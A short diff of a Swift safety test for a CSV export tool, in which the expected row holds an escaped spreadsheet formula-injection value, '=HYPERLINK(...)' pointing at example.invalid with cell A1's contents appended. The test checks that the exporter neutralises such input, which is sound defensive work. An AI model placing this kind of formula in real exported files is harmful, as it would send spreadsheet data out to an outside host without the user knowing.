@@ -379,7 +379,8 @@ struct SafetyTests {
         #expect(result.status == 0, "\(result.errors)")
         let row = try #require(result.output.split(separator: "\r\n").dropFirst().first)
         #expect(
-            row.hasPrefix(#"2023,cb-a,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""Chi bộ thôn A"")",dbx-test,"#),
+            row.hasPrefix(
+                #"2023,cb-a,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""Chi bộ thôn A"")",Đảng bộ xã Thử Nghiệm,"#),
             "\(row)")
         // Other formats carry the name as it is.
         let json = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "json"])
